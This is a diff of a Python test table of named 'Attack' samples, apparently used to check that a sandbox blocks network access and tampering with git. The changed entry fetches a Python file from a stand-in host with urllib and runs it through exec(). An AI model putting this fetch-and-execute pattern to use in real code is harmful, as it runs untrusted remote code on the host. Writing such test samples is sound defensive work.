@@ -175,7 +175,7 @@ CODE: dict[str, Attack] = {
         "git": "#!/bin/sh\nexit 0\n",
     },
     "asks the network": source(
-        "import urllib.request\ntry:\n    exec(urllib.request.urlopen('https://pypi.org/calc.py', timeout=3).read())\n"
+        "import urllib.request\ntry:\n    exec(urllib.request.urlopen('https://example.org/calc.py', timeout=3).read())\n"
         "except OSError:\n    pass"
     ),
     "asks git for the future": {
